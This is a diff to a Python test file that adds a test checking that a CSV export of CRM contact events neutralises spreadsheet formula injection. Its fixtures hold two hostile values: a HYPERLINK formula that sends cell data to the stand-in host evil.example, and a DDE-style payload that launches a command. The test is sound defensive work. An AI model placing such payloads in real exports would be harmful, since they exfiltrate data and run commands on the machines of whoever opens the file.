@@ -219,3 +219,16 @@ def test_customer_contacted_is_recorded_with_the_case_stage_when_not_given(post_
         row = session.scalars(select(ContactEvent)).one()
         assert (row.customer_id, row.journey_stage, row.category, row.team) == \
             ("cus_5", "billing", "double_charge", "billing-emea")
+
+
+def test_csv_export_neutralises_formulas_from_crm_events(post_event, client, read_headers):
+    """Issue 11: a journey stage or an agent id sent by the CRM reaches the CSV; it must open as text."""
+    stage, agent = '=HYPERLINK("https://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    event = interaction_event(**{"interaction.journey_stage": stage, "agent.id": agent,
+                                 "interaction.customer_sentiment": -0.4})
+    assert post_event(event).status_code == 202
+    resp = client.get(f"{URL}?from=2026-11-20&to=2026-11-26", headers={**read_headers, "Accept": "text/csv"})
+    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
+    groups = {row[1] for row in rows}
+    assert "'" + stage in groups and "'" + agent in groups and stage not in groups and agent not in groups
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
